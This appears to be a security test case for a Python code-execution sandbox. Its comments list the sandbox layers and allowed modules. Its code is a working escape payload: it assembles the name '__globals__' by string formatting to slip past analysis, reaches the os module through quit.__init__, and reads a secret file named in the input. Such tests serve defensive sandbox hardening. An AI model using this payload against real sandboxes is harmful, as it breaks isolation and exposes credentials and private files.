# class: names built at run time
# technique: an attribute's name by format
# layers: analyzer, interpreter, landlock, seccomp, identity
# code: user
# allow: collections, contextlib, copy, dataclasses, datetime, decimal, enum, functools, json, logging, math, operator, random, re, statistics, string, typing, unicodedata
# witness: secret
host = _items[0]["json"]
import operator
name = '{0}{0}glo{1}{0}{0}'.format('_', 'bals')
g = operator.attrgetter(name)(quit.__init__)
os = g["sys"].modules["os"]
return [{"json": {"reached": os.read(os.open(host["secret"], 0), 4096).decode()}}]
